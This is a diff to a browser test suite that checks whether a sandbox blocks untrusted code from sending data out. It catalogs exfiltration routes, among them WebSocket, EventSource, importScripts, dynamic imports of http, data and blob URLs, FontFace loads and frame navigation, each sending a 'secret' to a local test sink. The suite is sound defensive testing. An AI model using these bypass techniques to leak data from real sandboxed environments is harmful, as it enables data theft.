@@ -1,7 +1,7 @@
 /** Programs that try to send something out: the sink must not hear a thing. */
 import { expect, expectNextRunPasses, test } from "./support/attack-test";
 import { gradeInPage, playInPage, entryProgram } from "./support/lab";
-import { findSandboxFrame } from "./support/sandbox-frame";
+import { addSandboxFrame, removeFrame } from "./support/sandbox-frame";
 import type { Sink } from "./support/sink";
 import { runPlain } from "./support/weak-runs";
 
@@ -15,12 +15,13 @@ const WAYS: Record<string, (sink: Sink) => Record<string, string>> = {
     WebSocket: `new WebSocket("ws://${host}/e?d=secret"); await pause(200);`,
     EventSource: `const e = new EventSource("${url}/events?d=secret"); await pause(200); e.close();`,
   }),
+  // The address of an import stands in a variable: as a literal it is refused before the program runs.
   "31: importScripts and import of http, data and blob": ({ url }) => ({
     importScripts: `importScripts("${url}/f?d=secret");`,
-    "import http": `await import("${url}/g?d=secret");`,
-    "import data": `await import("data:text/javascript,await fetch('${url}/h')");`,
-    "import blob": `await import(URL.createObjectURL(new Blob(["await fetch('${url}/i')"], { type: "text/javascript" })));`,
-    "import http from blob": `await import(URL.createObjectURL(new Blob(["import '${url}/j'"], { type: "text/javascript" })));`,
+    "import http": `const a = "${url}/g?d=secret"; await import(a);`,
+    "import data": `const a = "data:text/javascript,await fetch('${url}/h')"; await import(a);`,
+    "import blob": `const a = blob("await fetch('${url}/i')"); await import(a);`,
+    "import http from blob": `const a = blob("import '${url}/j'"); await import(a);`,
   }),
   "32: FontFace and a nested worker": ({ url }) => ({
     FontFace: `const f = new FontFace("x", "url(${url}/k?d=secret)"); await f.load();`,
@@ -28,10 +29,8 @@ const WAYS: Record<string, (sink: Sink) => Record<string, string>> = {
   }),
 };
 
-/** Ways that even an unprotected classic blob worker lacks, so that no control can fire. */
-const NEVER_IN_A_WORKER = new Set(["import data"]);
-
 const PRELUDE = `
+  const blob = (text) => URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
   const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
   const attempt = async (name, way) => { try { await way(); } catch (error) { self.failed = name + error; } };`;
 
@@ -46,7 +45,6 @@ for (const [title, waysTo] of Object.entries(WAYS)) {
   test(title, async ({ lab, weak, sink }) => {
     const ways = waysTo(sink);
     for (const [name, code] of Object.entries(ways)) {
-      if (NEVER_IN_A_WORKER.has(name)) continue;
       sink.clear();
       await runPlain(weak, program({ [name]: code }), 1_200);
       expect(sink.hits(), `${name} reaches the sink where nothing stops it`).not.toEqual([]);
@@ -61,7 +59,7 @@ for (const [title, waysTo] of Object.entries(WAYS)) {
 
     // The policy must hold by itself too, where no global has been taken away: in the frame, and in a
     // fresh worker of the frame.
-    const frame = await findSandboxFrame(lab);
+    const frame = await addSandboxFrame(lab);
     await frame.evaluate(
       async ([text, wait]) => {
         const inFrame = new Function(`return (async () => { ${text} })()`);
@@ -77,6 +75,7 @@ for (const [title, waysTo] of Object.entries(WAYS)) {
       },
       [program(ways), 5_000] as const,
     );
+    await removeFrame(frame);
     expect(sink.hits()).toEqual([]);
   });
 }
@@ -101,7 +100,7 @@ test("34: the frame navigates itself away", async ({ lab, weak, sink }) => {
     if (request.url().includes("secret")) leaks.push(request.url());
   };
   lab.on("requestfinished", listen);
-  const frame = await findSandboxFrame(lab);
+  const frame = await addSandboxFrame(lab);
   await frame.evaluate((code) => new Function(code)(), navigate(sink.url)).catch(() => {});
   await lab.waitForTimeout(800);
   // Also to a page of the same site, whose host would log the address.
@@ -114,8 +113,6 @@ test("34: the frame navigates itself away", async ({ lab, weak, sink }) => {
   lab.off("requestfinished", listen);
   expect(sink.hits()).toEqual([]);
   expect(leaks).toEqual([]);
-  // That frame held the spare; a run that finds it gone must still end well.
-  await lab.reload();
-  await lab.waitForFunction(() => window.__lab !== undefined);
+  await removeFrame(frame);
   await expectNextRunPasses(lab);
 });
